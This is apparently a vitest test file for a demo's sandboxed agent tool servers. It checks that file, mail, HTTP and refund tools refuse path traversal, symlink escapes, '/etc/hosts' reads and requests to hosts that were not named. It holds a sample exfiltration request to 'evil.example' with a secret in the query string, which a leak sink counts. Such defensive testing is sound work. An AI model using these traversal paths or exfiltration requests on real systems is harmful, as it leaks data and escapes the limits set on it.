// SPDX-License-Identifier: Apache-2.0
/** What the demo's servers refuse by themselves: leaving their directory, and any network. */
import { readdir, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { ToolName } from '../tools.ts';
import { startServers } from '../ungated.ts';
import { openWorld, type World } from '../world.ts';

let world: World;
let servers: Awaited<ReturnType<typeof startServers>>;

beforeAll(async () => {
  world = await openWorld();
  await symlink(world.dir, join(world.dir, 'files', 'link'));
  await symlink(join(world.dir, 'new'), join(world.dir, 'files', 'dangling'));
  servers = await startServers(world.mcp);
});

afterAll(async () => {
  await servers[Symbol.asyncDispose]();
  await world[Symbol.asyncDispose]();
});

test.each<[rule: string, tool: ToolName, args: Record<string, unknown>, says: RegExp]>([
  ['no reading above the root', 'read_file', { path: '../crm.sqlite' }, /outside of the files/],
  ['no absolute path', 'read_file', { path: '/etc/hosts' }, /outside of the files/],
  ['no reading through a link', 'read_file', { path: 'link/crm.sqlite' }, /outside of the files/],
  ['no writing above the root', 'write_file', { path: '../new', text: 'x' }, /outside of the files/],
  ['no writing through a link', 'write_file', { path: 'link/new/new', text: 'x' }, /outside of the files/],
  [
    'no writing through a link to nowhere',
    'write_file',
    { path: 'dangling', text: 'x' },
    /outside of the files/,
  ],
  ['no mail outside of the inbox', 'read_mail', { mailId: '../sent/x' }, /validation/],
  [
    'no host that is not named',
    'http_post',
    { url: 'http://other.example/', body: 'x' },
    /cannot be reached/,
  ],
  ['no address in place of a name', 'http_get', { url: 'http://127.0.0.1/' }, /cannot be reached/],
  ['no other port', 'http_post', { url: 'http://evil.example:81/', body: 'x' }, /cannot be reached/],
  ['no other scheme', 'http_post', { url: 'https://evil.example/', body: 'x' }, /cannot be reached/],
  ['no refund of nothing', 'refund', { customerId: 1, amount: 0, currency: 'EUR' }, /validation/],
  ['no refund to nobody', 'refund', { customerId: 201, amount: 1, currency: 'EUR' }, /no customer 201/],
  ['no unknown argument', 'get_ticket', { ticketId: 42, as: 'root' }, /validation/],
])('%s', async (_rule, tool, args, says) => {
  expect(await servers.callTool(tool, args)).toEqual({ outcome: 'error', text: expect.stringMatching(says) });
  expect(await readdir(world.dir)).toEqual(['crm.sqlite', 'files', 'mail']);
  expect((await world.leaked()).sink.requests).toBe(0);
});

test('what they serve otherwise', async () => {
  const text = async (tool: ToolName, args = {}) => (await servers.callTool(tool, args)).text;
  expect(JSON.parse(await text('list_files'))).toEqual(['notes/refunds.md', 'notes/ticket-42.md']);
  expect(await text('write_file', { path: 'a/b.md', text: 'hello' })).toBe('wrote a/b.md');
  expect(await text('read_file', { path: 'a/b.md' })).toBe('hello');
  expect(JSON.parse(await text('search_customers', { query: 'ada.costa@' }))).toMatchObject([
    { name: 'Ada Costa' },
  ]);
  expect(await text('http_get', { url: 'http://status.example/refunds' })).toBe(
    '200 all systems operational',
  );
});

test('data in a query string counts at the sink', async () => {
  await servers.callTool('http_get', { url: 'http://evil.example/?secret' });
  expect((await world.leaked()).sink).toEqual({ requests: 1, bytes: 6, text: 'secret' });
});
